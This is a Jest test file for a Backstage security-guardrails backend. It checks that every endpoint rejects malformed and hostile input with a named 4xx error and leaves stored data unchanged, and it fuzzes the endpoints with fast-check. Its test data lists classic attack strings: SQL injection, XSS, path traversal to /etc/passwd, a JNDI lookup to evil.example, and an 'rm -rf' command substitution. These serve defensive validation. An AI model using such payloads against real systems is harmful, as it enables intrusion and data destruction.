/*
 * Hostile and bad input against every endpoint that takes input: wrong types,
 * missing fields, unknown roles, durations out of range, unknown and foreign
 * entities, invalid Kubernetes names, very long strings, oversized bodies and
 * injection-shaped strings. Each must get a 4xx whose message names the field
 * or the rule, and nothing stored may change: after every case the requests,
 * grants, audit history and RoleBinding files are compared with before.
 *
 * Then fast-check throws random bodies and queries at the same endpoints:
 * never a 5xx, and stored data changes only with a 2xx.
 */
import {
  createMockDirectory,
  mockCredentials,
} from '@backstage/backend-test-utils';
import fc from 'fast-check';
import request from 'supertest';
import {
  demoClusterConfig,
  endHeldRequests,
  startGuardrailsBackend,
  waitForPostures,
} from '../__testUtils__/testBackend';

jest.setTimeout(180_000);

const API = '/api/security-guardrails';
const STOREFRONT = 'component:default/storefront';
const as = (user: string) =>
  mockCredentials.user.header(`user:default/${user}`);

const edit = {
  entityRef: STOREFRONT,
  role: 'edit',
  cluster: 'demo',
  namespaces: ['shop-web'],
  durationSeconds: 1800,
  justification: 'Debugging INC-4211: checkout errors',
};
const exemption = {
  entityRef: STOREFRONT,
  checkId: 'sc.readonly-rootfs',
  durationSeconds: 7 * 86400,
  justification: 'Legacy nginx image writes its pid file; fix in Q1',
};

/** Strings that have broken other systems; in a validated field each is a 400. */
const INJECTIONS = [
  "'; DROP TABLE guardrails_access_requests; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(rm -rf /)',
  'a\u0000b',
  '\u202eevil',
  'x'.repeat(10_000),
];

interface Case {
  name: string;
  method: 'get' | 'post';
  path: string;
  body?: unknown;
  /** Sent as-is with this content type instead of JSON. */
  raw?: { type: string; text: string };
  user?: string;
  status: number;
  /** What the message must name: the field, the rule or the limit. */
  names: RegExp;
}

function bodyCases(
  path: string,
  valid: Record<string, unknown>,
  fields: Record<
    string,
    Array<[value: unknown, names: RegExp, status?: number]>
  >,
): Case[] {
  const cases: Case[] = [];
  for (const [field, values] of Object.entries(fields)) {
    cases.push({
      name: `${path} without ${field}`,
      method: 'post',
      path,
      body: { ...valid, [field]: undefined },
      status: 400,
      names: new RegExp(`body\\.${field}: Required`),
    });
    for (const [value, names, status] of values) {
      cases.push({
        name: `${path} ${field}=${JSON.stringify(value)?.slice(0, 40)}`,
        method: 'post',
        path,
        body: { ...valid, [field]: value },
        status: status ?? 400,
        names,
      });
    }
  }
  return cases;
}

const field = (name: string) =>
  new RegExp(`body\\.${name.replace('.', '\\.')}`);

function caseTable(ids: {
  pending: string;
  active: string;
  exemption: string;
}): Case[] {
  const accessFields: Parameters<typeof bodyCases>[2] = {
    entityRef: [
      [42, field('entityRef')],
      ['storefront', /full entity reference/],
      ['component:default/nope', /No entity component:default\/nope/, 404],
      // Hidden from dana by the catalog's permissions: indistinguishable from unknown.
      ['component:default/payments-api', /No entity/, 404],
      ...INJECTIONS.map(s => [s, field('entityRef')] as [unknown, RegExp]),
    ],
    role: [
      ['superuser', /role-not-grantable/],
      ['cluster-admin', /role-not-grantable/],
      ['Edit', field('role')],
      [['edit'], field('role')],
      ...INJECTIONS.map(s => [s, field('role')] as [unknown, RegExp]),
    ],
    cluster: [
      ['production', /target-not-mapped/],
      [null, field('cluster')],
      ...INJECTIONS.map(s => [s, field('cluster')] as [unknown, RegExp]),
    ],
    namespaces: [
      ['shop-web', field('namespaces')],
      [[], field('namespaces')],
      [['kube-system'], /target-not-mapped/],
      [
        ['Shop_Web'],
        /body\.namespaces\.0: must be a Kubernetes namespace name/,
      ],
      [['a'.repeat(64)], field('namespaces.0')],
      [Array(21).fill('shop-web'), field('namespaces')],
      [[{ name: 'shop-web' }], field('namespaces.0')],
      ...INJECTIONS.map(s => [[s], field('namespaces.0')] as [unknown, RegExp]),
    ],
    durationSeconds: [
      ['1800', field('durationSeconds')],
      [18.5, field('durationSeconds')],
      [-1, field('durationSeconds')],
      [0, field('durationSeconds')],
      [59, /duration-out-of-range/],
      [5 * 3600, /duration-out-of-range/],
      [1e12, field('durationSeconds')],
      [Number.MAX_SAFE_INTEGER + 2, field('durationSeconds')],
    ],
    justification: [
      ['too short', /body\.justification: must say why/],
      ['          x', /body\.justification: must say why/],
      ['x'.repeat(2001), field('justification')],
      [{ text: 'a long enough reason' }, field('justification')],
    ],
  };
  return [
    // durationSeconds is optional (the role's default), so no case leaves it out.
    ...bodyCases('/access-requests', edit, accessFields).filter(
      c => c.name !== '/access-requests without durationSeconds',
    ),
    {
      name: 'ticket with spaces',
      method: 'post',
      path: '/access-requests',
      body: { ...edit, ticket: 'INC 4211; rm -rf' },
      status: 400,
      names: /body\.ticket: must be a ticket id/,
    },
    {
      name: 'the requester in the body',
      method: 'post',
      path: '/access-requests',
      body: { ...edit, requester: 'user:default/sam' },
      status: 400,
      names: /Unrecognized key.*requester/,
    },
    {
      name: 'edit on another team’s service',
      method: 'post',
      path: '/access-requests',
      body: {
        ...edit,
        entityRef: 'component:default/checkout',
        namespaces: ['shop-payments'],
      },
      status: 403,
      names: /requester-not-owner/,
    },
    {
      name: 'an array for a body',
      method: 'post',
      path: '/access-requests',
      body: [edit],
      status: 400,
      names: /Invalid body: body: Expected object/,
    },
    {
      name: 'malformed JSON',
      method: 'post',
      path: '/access-requests',
      raw: { type: 'application/json', text: '{"entityRef": "comp' },
      status: 400,
      names: /JSON/,
    },
    {
      name: 'a body that is not JSON',
      method: 'post',
      path: '/access-requests',
      raw: { type: 'text/plain', text: JSON.stringify(edit) },
      status: 400,
      names: /body\.entityRef: Required/,
    },
    {
      name: 'a body over the 64 kB limit',
      method: 'post',
      path: '/access-requests',
      body: { ...edit, justification: 'x'.repeat(70_000) },
      status: 413,
      names: /too large/i,
    },
    {
      name: 'a deeply nested body',
      method: 'post',
      path: '/access-requests',
      raw: {
        type: 'application/json',
        text: `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`,
      },
      status: 400,
      names: /body/,
    },

    ...bodyCases('/exemption-requests', exemption, {
      checkId: [
        ['sc.nope', /unknown-check/],
        ['SC PRIVILEGED', field('checkId')],
        ...INJECTIONS.map(s => [s, field('checkId')] as [unknown, RegExp]),
      ],
      durationSeconds: [
        [30, /duration-out-of-range/],
        [91 * 86400, /duration-out-of-range/],
        [367 * 86400, field('durationSeconds')],
        ['7d', field('durationSeconds')],
      ],
      justification: [['short', field('justification')]],
    }),
    ...[
      [{ kind: 'deployment' }, field('scope.kind')],
      [{ name: 'Web_App' }, field('scope.name')],
      [{ namespace: INJECTIONS[0] }, field('scope.namespace')],
      [{ cluster: 'x'.repeat(65) }, field('scope.cluster')],
      [{ owner: 'me' }, /Unrecognized key.*owner/],
      ['everything', field('scope')],
    ].map(
      ([scope, names]): Case => ({
        name: `exemption scope ${JSON.stringify(scope)}`,
        method: 'post',
        path: '/exemption-requests',
        body: { ...exemption, scope },
        status: 400,
        names: names as RegExp,
      }),
    ),

    // Decisions and changes to an existing request.
    {
      name: 'approve with an approver in the body',
      method: 'post',
      path: `/access-requests/${ids.pending}/approve`,
      body: { approver: 'user:default/sam' },
      user: 'riley',
      status: 400,
      names: /Unrecognized key.*approver/,
    },
    {
      name: 'approve with a comment too long',
      method: 'post',
      path: `/access-requests/${ids.pending}/approve`,
      body: { comment: 'x'.repeat(1001) },
      user: 'riley',
      status: 400,
      names: field('comment'),
    },
    {
      name: 'deny without a reason',
      method: 'post',
      path: `/access-requests/${ids.pending}/deny`,
      body: {},
      user: 'riley',
      status: 400,
      names: /body\.comment: Required/,
    },
    {
      name: 'deny with a number for a reason',
      method: 'post',
      path: `/access-requests/${ids.pending}/deny`,
      body: { comment: 42 },
      user: 'riley',
      status: 400,
      names: field('comment'),
    },
    {
      name: 'cancel with a reason of the wrong type',
      method: 'post',
      path: `/access-requests/${ids.pending}/cancel`,
      body: { reason: ['no'] },
      status: 400,
      names: field('reason'),
    },
    {
      name: 'extend a pending request',
      method: 'post',
      path: `/access-requests/${ids.pending}/extend`,
      body: { durationSeconds: 600, justification: 'Still on INC-4211' },
      status: 409,
      names: /invalid-state/,
    },
    {
      name: 'extend beyond the role’s maximum',
      method: 'post',
      path: `/access-requests/${ids.active}/extend`,
      body: { durationSeconds: 9 * 3600, justification: 'Still on INC-4211' },
      status: 400,
      names: /duration-out-of-range/,
    },
    {
      name: 'extend by a string',
      method: 'post',
      path: `/access-requests/${ids.active}/extend`,
      body: { durationSeconds: '600', justification: 'Still on INC-4211' },
      status: 400,
      names: field('durationSeconds'),
    },
    {
      name: 'extend without a justification',
      method: 'post',
      path: `/access-requests/${ids.active}/extend`,
      body: { durationSeconds: 600 },
      status: 400,
      names: /body\.justification: Required/,
    },
    {
      name: 'revoke with extra fields',
      method: 'post',
      path: `/access-requests/${ids.active}/revoke`,
      body: { reason: 'done', force: true },
      status: 400,
      names: /Unrecognized key.*force/,
    },
    {
      name: 'approve an exemption through the access route',
      method: 'post',
      path: `/access-requests/${ids.exemption}/approve`,
      body: {},
      user: 'sam',
      status: 404,
      names: /No request/,
    },

    // Path parameters.
    ...[
      '/access-requests/not-a-uuid',
      `/access-requests/${encodeURIComponent(INJECTIONS[0])}`,
      '/access-requests/00000000-0000-0000-0000-00000000000g/approve',
    ].map(
      (path): Case => ({
        name: `path ${path.slice(0, 60)}`,
        method: path.endsWith('approve') ? 'post' : 'get',
        path,
        body: {},
        status: 400,
        names: /path\.id: must be a request id/,
      }),
    ),
    {
      name: 'an unknown request id',
      method: 'get',
      path: '/access-requests/7d3f8a4e-1b2c-4d5e-8f90-123456789abc',
      status: 404,
      names: /No request/,
    },
    ...[
      ['/posture/component/default/..%2F..%2Fetc', /path\.name/],
      [`/posture/component/default/${'a'.repeat(64)}`, /path\.name/],
      ['/posture/com%20ponent/default/storefront', /path\.kind/],
      ['/posture/component/de%27fault/storefront/history', /path\.namespace/],
      ['/access/targets/component/default/%3Cscript%3E', /path\.name/],
      ['/checks/%3Cscript%3E', /path\.id/],
      ['/checks/sc.nope', /sc\.nope/],
      ['/posture/component/default/nope', /nope/],
    ].map(
      ([path, names]): Case => ({
        name: `path ${path}`,
        method: 'get',
        path: path as string,
        status: String(path).endsWith('nope') ? 404 : 400,
        names: names as RegExp,
      }),
    ),

    // Queries.
    ...[
      ['/access-requests?view=everything', /query\.view/],
      ['/access-requests?state=granted', /query\.state/],
      ['/access-requests?limit=0', /query\.limit/],
      ['/access-requests?limit=abc', /query\.limit/],
      ['/access-requests?limit=100000', /query\.limit/],
      ['/access-requests?cursor=garbage', /query\.cursor/],
      ['/access-requests?entityRef=storefront', /query\.entityRef/],
      ['/access-requests?requester=user:default/sam', /Unrecognized key/],
      ['/exemption-requests?view[]=all', /query\.view/],
      ['/audit?requestId=1%20OR%201=1', /query\.requestId/],
      ['/audit?from=yesterday', /query\.from/],
      ['/audit?to=2026-13-45', /query\.to/],
      ['/audit?cursor=-1', /query\.cursor/],
      ['/audit?limit=501', /query\.limit/],
      [`/audit?actor=${'a'.repeat(300)}`, /query\.actor/],
      ['/posture?grade=Z', /query\.grade/],
      ['/posture?domain=everything', /query\.domain/],
      ['/posture?limit=-5', /query\.limit/],
      [`/posture?owner=${Array(51).fill('a').join(',')}`, /query\.owner/],
      [
        '/posture/component/default/storefront/history?from=last-week',
        /query\.from/,
      ],
      [
        '/posture/component/default/storefront/history?days=7',
        /Unrecognized key/,
      ],
      ['/summary/trend?days=1e9', /query\.days/],
      ['/summary?groupBy=team', /query\.groupBy/],
      ['/summary/trend?days=abc', /query\.days/],
      ['/summary?unknown=1', /Unrecognized key/],
      ['/status?unknown=1', /Unrecognized key/],
    ].map(
      ([path, names]): Case => ({
        name: `query ${String(path).slice(0, 70)}`,
        method: 'get',
        path: path as string,
        user: 'sam',
        status: 400,
        names: names as RegExp,
      }),
    ),
  ];
}

describe('hostile input', () => {
  const grants = createMockDirectory();
  let backend: Awaited<ReturnType<typeof startGuardrailsBackend>>;
  let server: any;
  const ids = { pending: '', active: '', exemption: '' };

  const send = (c: Omit<Case, 'status' | 'names' | 'name'>) => {
    const r = request(server)
      [c.method](`${API}${c.path}`)
      .set('Authorization', as(c.user ?? 'dana'));
    if (c.raw) return r.set('Content-Type', c.raw.type).send(c.raw.text);
    return c.body === undefined ? r : r.send(c.body as object);
  };

  /** Everything stored, as a security lead sees it, and the RoleBinding files. */
  async function stored() {
    const get = async (path: string) => {
      const res = await request(server)
        .get(`${API}${path}`)
        .set('Authorization', as('sam'));
      expect(res.status).toBe(200);
      return res.body;
    };
    return {
      requests: await get('/access-requests?view=all&limit=200'),
      exemptions: await get('/exemption-requests?view=all&limit=200'),
      grants: await get('/grants'),
      audit: await get('/audit?limit=500'),
      files: grants.content(),
    };
  }

  beforeAll(async () => {
    backend = await startGuardrailsBackend({
      // payments-api is hidden from dana by the catalog's permissions.
      hidden: { 'user:default/dana': ['component:default/payments-api'] },
      config: demoClusterConfig(grants.path),
    });
    server = backend.server;
    await waitForPostures(server);
    const created = async (path: string, body: object) => {
      const res = await send({ method: 'post', path, body });
      expect(res.status).toBe(201);
      return res.body.id as string;
    };
    ids.pending = await created('/access-requests', edit);
    ids.active = await created('/access-requests', { ...edit, role: 'view' });
    ids.exemption = await created('/exemption-requests', exemption);
  });
  afterAll(async () => {
    await backend?.stop();
    grants.clear();
  });

  it('answers every bad input with a 4xx that names it, and changes nothing', async () => {
    const before = await stored();
    expect(before.grants.items).toHaveLength(1);
    const cases = caseTable(ids);
    expect(cases.length).toBeGreaterThan(150);
    const wrong: string[] = [];
    for (const c of cases) {
      const res = await send(c);
      const message: string = res.body?.error?.message ?? '';
      if (res.status !== c.status || !c.names.test(message)) {
        wrong.push(
          `${c.name}: got ${res.status} "${message.slice(0, 200)}", want ${
            c.status
          } naming ${c.names}`,
        );
      }
    }
    expect(wrong).toEqual([]);
    expect(await stored()).toEqual(before);
  });

  it('stores injection-shaped free text verbatim and as nothing else', async () => {
    const text = `${INJECTIONS[0]} <script>alert(1)</script> \${jndi:x}`;
    await endHeldRequests(server, 'dana');
    const res = await send({
      method: 'post',
      path: '/access-requests',
      body: { ...edit, role: 'view', justification: text },
    });
    expect(res.status).toBe(201);
    const read = await send({
      method: 'get',
      path: `/access-requests/${res.body.id}`,
    });
    expect(read.body.justification).toBe(text);
    // The tables are still there and whole.
    const all = await stored();
    expect(all.requests.items.map((r: any) => r.id)).toEqual(
      expect.arrayContaining([ids.pending, ids.active, res.body.id]),
    );
  });

  describe('random input (fast-check)', () => {
    const runs = { numRuns: process.env.CI ? 120 : 50 };
    const anyValue = fc.oneof(
      fc.anything(),
      fc.string(),
      fc.integer(),
      fc.constantFrom(...INJECTIONS, STOREFRONT, 'view', 'edit', 'demo', 1800),
      fc.array(fc.constantFrom('shop-web', 'kube-system', 'X', '')),
    );
    /** Bodies near a valid one: as is, one field replaced, or some kept and others added. */
    const nearly = (valid: Record<string, unknown>) =>
      fc.oneof(
        fc.constant(valid),
        fc
          .tuple(fc.constantFrom(...Object.keys(valid)), anyValue)
          .map(([key, value]) => ({ ...valid, [key]: value })),
        fc
          .tuple(
            fc.subarray(Object.keys(valid)),
            fc.dictionary(
              fc.oneof(fc.constantFrom(...Object.keys(valid)), fc.string()),
              anyValue,
              { maxKeys: 3 },
            ),
          )
          .map(([keep, extra]) => ({
            ...Object.fromEntries(keep.map(k => [k, valid[k]])),
            ...extra,
          })),
      );

    async function neverFails(
      path: string,
      body: unknown,
      user = 'dana',
    ): Promise<boolean> {
      // Judged on its own, not refused as a repeat of an earlier run's request.
      if (path === '/access-requests') await endHeldRequests(server, user);
      const before = await stored();
      const res = await send({ method: 'post', path, body, user });
      if (res.status >= 500) {
        throw new Error(`${res.status} for ${JSON.stringify(body)}`);
      }
      if (res.status >= 400) {
        expect(res.body.error.message).toEqual(expect.any(String));
        expect(await stored()).toEqual(before);
      }
      return res.status < 300;
    }

    it('POST /access-requests: never a 5xx, nothing stored unless 201', async () => {
      let accepted = 0;
      await fc.assert(
        fc.asyncProperty(nearly({ ...edit, role: 'view' }), async body => {
          if (await neverFails('/access-requests', body)) accepted++;
        }),
        runs,
      );
      // The generator also reaches valid requests, not only refusals.
      expect(accepted).toBeGreaterThan(0);
    });

    it('POST /exemption-requests: never a 5xx, nothing stored unless 201', async () => {
      let refused = 0;
      await fc.assert(
        fc.asyncProperty(nearly(exemption), async body => {
          if (!(await neverFails('/exemption-requests', body))) refused++;
        }),
        runs,
      );
      // The generator also reaches refusals, not only valid requests.
      expect(refused).toBeGreaterThan(0);
    });

    it('decisions on a request: never a 5xx, nothing changed unless 2xx', async () => {
      const actions = ['approve', 'deny', 'cancel', 'revoke', 'extend'];
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...actions),
          fc.constantFrom('dana', 'riley', 'pat', 'sam'),
          nearly({
            comment: 'Looks fine',
            reason: 'Done',
            durationSeconds: 600,
            justification: 'Still on INC-4211',
          }),
          async (action, user, body) => {
            // A fresh pending request each time, so a decision cannot affect the next run.
            await endHeldRequests(server, 'dana');
            const res = await send({
              method: 'post',
              path: '/access-requests',
              body: edit,
            });
            expect(res.status).toBe(201);
            await neverFails(
              `/access-requests/${res.body.id}/${action}`,
              body,
              user,
            );
          },
        ),
        { ...runs, numRuns: Math.ceil(runs.numRuns / 2) },
      );
    });

    it('queries: never a 5xx', async () => {
      const paths = [
        '/access-requests',
        '/exemption-requests',
        '/audit',
        '/grants',
        '/posture',
        '/summary',
        '/summary/trend',
        '/summary/standing-access',
        '/unowned',
        '/checks',
        '/posture/component/default/storefront/history',
      ];
      const key = fc.oneof(
        fc.constantFrom(
          'view',
          'state',
          'limit',
          'cursor',
          'entityRef',
          'actor',
          'requestId',
          'from',
          'to',
          'grade',
          'owner',
          'domain',
          'days',
          'groupBy',
          'q',
        ),
        fc.string({ maxLength: 10 }),
      );
      const value = fc.oneof(
        fc.string({ maxLength: 50 }),
        fc.constantFrom(...INJECTIONS.slice(0, 8), '-1', '0', '1e400', 'all'),
      );
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...paths),
          fc.array(fc.tuple(key, value), { maxLength: 4 }),
          fc.constantFrom('dana', 'sam', 'pat'),
          async (path, params, user) => {
            const query = params
              .map(
                ([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`,
              )
              .join('&');
            const res = await send({
              method: 'get',
              path: `${path}?${query}`,
              user,
            });
            expect(res.status).toBeLessThan(500);
            // A refusal always says why.
            const says = typeof res.body?.error?.message === 'string';
            expect(res.status < 400 || says).toBe(true);
          },
        ),
        runs,
      );
    });
  });
});
